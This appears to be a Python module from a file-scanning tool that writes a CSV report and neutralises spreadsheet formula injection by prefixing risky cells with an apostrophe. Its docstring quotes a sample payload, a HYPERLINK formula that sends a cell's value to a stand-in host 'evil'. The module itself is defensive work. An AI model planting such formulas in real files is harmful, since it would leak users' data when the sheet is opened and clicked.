"""files.csv: every file, one row each, with the columns of report.xlsx's "All files".

CSV injection: a spreadsheet program opening a CSV evaluates any cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and anyone who can
name a file on a shared drive controls our cells (a file called
``=HYPERLINK("http://evil/?"&A1,"open")`` would leak a neighbouring cell when
clicked).  A CSV cannot mark a cell as text the way the xlsx quote prefix
does, so such cells are written with a leading apostrophe (OWASP's advice):
Excel and LibreOffice then show the value as text.  The cost is that a
script reading files.csv sees the apostrophe; findings.json is the exact,
machine-readable record.  Tab and CR count too, because some importers strip
them and then see the character after.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path
from typing import Any, BinaryIO

from dpscan.model.ids import FORMULA_PREFIXES
from dpscan.model.records import ScanResult
from dpscan.reports._output import open_private, text_writer
from dpscan.reports._summary import entity_columns
from dpscan.reports._table import all_files_header, all_files_row


def csv_cell(value: Any) -> str:
    """One value as CSV text: dates ISO 8601, None empty, formula-like text neutralised."""
    kind = value.__class__
    if kind is str:  # most cells: checked first (files.csv has millions of them)
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if kind is int or value is None:
        return "" if value is None else str(value)
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool | int | float):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def write_csv_to(result: ScanResult, handle: BinaryIO) -> None:
    """Write files.csv to a binary stream, one row at a time: UTF-8 with a byte order mark,
    CRLF line ends.

    The BOM is what makes Excel read UTF-8 (pupils' names are not all ASCII); CRLF is
    RFC 4180.  Values with commas, quotes or newlines are quoted.  The records are read
    once (the entity columns come from the records' store), never held.
    """
    with text_writer(handle, encoding="utf-8-sig", newline="") as text:
        writer = csv.writer(text, lineterminator="\r\n")
        columns = entity_columns(result)
        writer.writerow(all_files_header(result, columns))
        for record in result.files:
            writer.writerow([csv_cell(value) for value in all_files_row(record, columns)])


def render_csv(result: ScanResult) -> bytes:
    """Return files.csv as bytes (see :func:`write_csv_to`)."""
    buffer = io.BytesIO()
    write_csv_to(result, buffer)
    return buffer.getvalue()


def write_csv(result: ScanResult, path: Path) -> None:
    """Write files.csv for ``result`` to ``path`` (private, atomic), streaming."""
    with open_private(path) as handle:
        write_csv_to(result, handle)
